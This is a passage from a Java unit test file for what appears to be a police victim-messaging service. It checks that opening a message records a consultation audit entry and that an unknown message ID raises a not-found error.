    assertThat(tmc.outbox().forCrime(FORCE, CRIME)).isEmpty();
    assertThat(tmc.audit().forSubject(OTHER, "message", m.messageId())).isEmpty();
  }

  @Test
  void openingAMessageIsAConsultation() {
    VictimMessage m = send("Question");
    MessageCase c = messaging.open(FORCE, m.messageId(), HUB);
    assertThat(c.message()).isEqualTo(m);
    assertThat(audit(m.messageId()))
        .filteredOn(a -> a.action() == AuditAction.CONSULTATION)
        .singleElement()
        .satisfies(a -> assertThat(a.actor()).isEqualTo(HUB));
    assertThatThrownBy(() -> messaging.open(FORCE, "no-such-id", HUB))
        .isInstanceOf(NotFoundException.class);
  }
}
